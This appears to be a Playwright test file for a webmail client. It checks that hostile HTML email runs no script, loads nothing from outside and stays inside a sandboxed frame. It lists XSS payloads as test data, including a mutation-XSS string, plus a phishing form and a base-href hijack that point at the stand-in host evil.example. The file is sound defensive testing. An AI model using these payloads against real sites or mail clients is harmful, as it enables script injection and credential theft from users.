import { deliverFromOutside } from '../clients/mail-clients.ts';
import { expect, row, test } from '../fixtures.ts';

/** Things that must not run, load or leave the message's frame. */
const HOSTILE = [
  '<script>top.__ran = 1; document.title = "owned"</script>',
  '<img src=x onerror="top.__ran = 2">',
  '<svg onload="top.__ran = 3"><animate onbegin="top.__ran = 4" attributeName=x dur=1s></svg>',
  '<a href="javascript:top.__ran = 5">click</a>',
  '<iframe srcdoc="<script>top.__ran = 6</script>"></iframe>',
  '<object data="data:text/html,<script>top.__ran = 7</script>"></object>',
  '<form action="https://evil.example/steal"><input name=password><button>Sign in again</button></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<base href="https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/style.css">',
  '<style>@import url("https://evil.example/import.css"); p { background: url(https://evil.example/bg.png) }</style>',
  '<div style="position:fixed;inset:0;z-index:99999;background:url(https://evil.example/cover.png)">cover</div>',
  '<video poster="https://evil.example/poster.png" src="https://evil.example/v.mp4" autoplay></video>',
].join('\n');
/** Turns the rest of the message into a style sheet for some parsers, and into an image for others. */
const MUTATING = '<math><mtext></form><form><mglyph><style></math><img src onerror="top.__ran = 8">';

test.describe('mail that means harm', () => {
  test('runs nothing, loads nothing, and stays within its frame', async ({ openMail, product, unique }) => {
    const subject = unique('Open me');
    const page = await openMail(product.bob);
    const asked: string[] = [];
    page.context().on('request', (request) => asked.push(request.url()));
    page.on('dialog', (dialog) => void dialog.dismiss().then(() => asked.push('a dialog')));
    await deliverFromOutside(product, { to: product.bob.address, subject, html: `<p>Dear customer, read on.</p>${HOSTILE}<p>The end.</p>${MUTATING}` });
    await row(page, subject).getByRole('link').first().click();
    const body = page.frameLocator('iframe[title="Message text"]').locator('body');
    await expect(body).toContainText('The end.');
    await body.getByText('click').click({ timeout: 2_000 }).catch(() => undefined); // May well have been removed.
    await page.waitForLoadState('networkidle').catch(() => undefined);
    expect(asked.filter((url) => !url.startsWith(product.url) && !/^(data|blob|about):/.test(url))).toEqual([]);
    expect(await page.evaluate(() => (window as unknown as { __ran?: number }).__ran)).toBeUndefined();
    expect(await page.title()).not.toBe('owned');
    await expect(page).toHaveURL(new RegExp(`^${product.url}/mail/`));
    const frame = page.locator('iframe[title="Message text"]');
    expect(await frame.getAttribute('sandbox')).not.toContain('allow-scripts');
    const sheet = await body.evaluate((element) => element.ownerDocument.documentElement.outerHTML);
    expect(sheet).not.toMatch(/<script|onerror|onload|javascript:|<form|<base|http-equiv="refresh"/i);
  });

  test('the body answers with a policy of its own, and to nobody else', async ({ openMail, product, unique }) => {
    const subject = unique('Policy');
    const page = await openMail(product.bob);
    await deliverFromOutside(product, { to: product.bob.address, subject, html: '<p>Hello <b>there</b></p>' });
    const answered = page.waitForResponse((response) => /\/api\/emails\/[^/]+\/body/.test(response.url()));
    await row(page, subject).getByRole('link').first().click();
    const response = await answered;
    const policy = response.headers()['content-security-policy'] ?? '';
    expect(policy).toContain("default-src 'none'");
    expect(policy).toContain('sandbox');
    expect(policy).not.toContain('allow-scripts');
    const alice = await openMail(product.alice);
    expect((await alice.request.get(response.url())).status()).toBe(404);
  });

  test('remote images wait to be asked for, and then come through the proxy alone', async ({ openMail, product, unique }) => {
    const subject = unique('Pictures');
    const page = await openMail(product.bob);
    const asked: string[] = [];
    page.context().on('request', (request) => asked.push(request.url()));
    const html = '<p>Look:</p><img src="https://img.outside.example/lead.jpg" width="300" height="100" alt="A lighthouse"><img src="https://count.outside.example/o.gif" width="1" height="1">';
    await deliverFromOutside(product, { to: product.bob.address, subject, html });
    await row(page, subject).getByRole('link').first().click();
    await expect(page.frameLocator('iframe[title="Message text"]').locator('body')).toContainText('Look:');
    const before = asked.length;
    expect(asked.filter((url) => url.includes('/api/images') || url.includes('outside.example'))).toEqual([]);
    await page.getByRole('button', { name: 'Show images' }).click();
    await expect.poll(() => asked.slice(before).filter((url) => url.startsWith(`${product.url}/api/images`)).length).toBeGreaterThan(0);
    expect(asked.filter((url) => !url.startsWith(product.url) && !/^(data|blob|about):/.test(url))).toEqual([]);
  });
});
